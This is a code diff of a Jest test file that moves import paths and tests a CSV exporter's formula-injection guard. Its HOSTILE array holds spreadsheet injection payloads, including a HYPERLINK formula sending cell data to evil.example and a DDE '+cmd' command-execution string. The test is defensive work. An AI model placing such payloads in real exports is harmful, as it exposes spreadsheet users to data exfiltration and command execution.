@@ -1,12 +1,12 @@
 import { describe, expect, it } from '@jest/globals'
 
-import { leadChangeError, type LeadChange } from '../../src/leads/leadStatus'
+import { leadChangeError, type LeadChange } from '../../src/domain/leads/leadStatus'
 import { contactAccessEntries, type ReturnedLead } from '../../src/plugins/boussole/accessLog/contactAccessEntries'
-import { toCsv as writeCsv } from '../../src/plugins/boussole/exports/csv'
-import { ageBandOf } from '../../src/plugins/boussole/retention/ageBand'
-import { anonymizedData } from '../../src/plugins/boussole/retention/anonymizedData'
+import { toCsv as writeCsv } from '../../src/domain/shared/csv'
+import { ageBandOf } from '../../src/domain/leads/ageBand'
+import { anonymizedData } from '../../src/domain/leads/anonymizedData'
 import { accessLogSentence, erasureNotice } from '../../src/plugins/boussole/retention/privacyNotice'
-import { parseCsv, toCsv } from '../../src/statistics/table'
+import { parseCsv, toCsv } from '../../src/domain/statistics/table'
 
 describe('ageBandOf: the only trace of the age kept after erasure', () => {
   const CASES: [unknown, string | null][] = [
@@ -97,7 +97,7 @@ describe('contactAccessEntries: one entry per territory, for the leads that carr
 })
 
 describe('statistics CSV: the platform’s one CSV writer, formula guard included', () => {
-  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', '\t=1+1']
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1:A9)', '\t=1+1']
   it.each(HOSTILE)('an organisation named %j comes out as text', (name) => {
     const csv = toCsv({ id: 't', title: 'T', columns: ['Organisme', 'Demandes'], rows: [[name, 3]] })
     const [, row] = parseCsv(csv)
